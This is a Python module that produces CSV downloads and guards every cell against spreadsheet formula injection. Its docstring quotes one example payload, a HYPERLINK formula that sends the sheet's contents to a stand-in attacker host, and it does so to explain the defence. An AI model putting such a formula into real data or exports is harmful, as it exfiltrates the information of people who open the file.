"""Figures and ticket lists as CSV, for the API's downloads and the dashboard's alike.

Every CSV the service writes goes through :func:`csv_text` (a whole table) or :func:`csv_lines`
(rows streamed page by page), so every cell passes one guard against formula injection: a
spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula, and a description such as ``=HYPERLINK("http://evil.example/?"&A1,"x")`` would send
the sheet's contents away the moment an official clicks. Such text cells are written with a
leading apostrophe (OWASP's advice), which spreadsheets show as text and do not keep; numbers stay
numbers, so a negative count is still a number. UTF-8 with a byte-order mark, so that Excel opens
Vietnamese names correctly; CRLF line ends, as RFC 4180 says.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["BOM", "FORMULA_STARTS", "csv_lines", "csv_text", "safe_cell"]

BOM = "\ufeff"
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
"""First characters a spreadsheet may read as the start of a formula (with their full-width forms,
which some spreadsheets fold to the ASCII ones)."""


def safe_cell(value: object) -> object:
    """``value`` as a CSV cell: ``None`` is empty, numbers stay numbers, text that a spreadsheet
    would run as a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, int | float):
        text = str(value)
        if text and (text[0] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS):
            return "'" + text
        return text
    return value


def csv_lines(rows: Iterable[Sequence[object]]) -> str:
    """``rows`` as CSV lines, every cell guarded (for a stream: no byte-order mark, no header)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return out.getvalue()


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A whole table: the byte-order mark, the header, then ``rows``, every cell guarded."""
    return BOM + csv_lines([header, *rows])
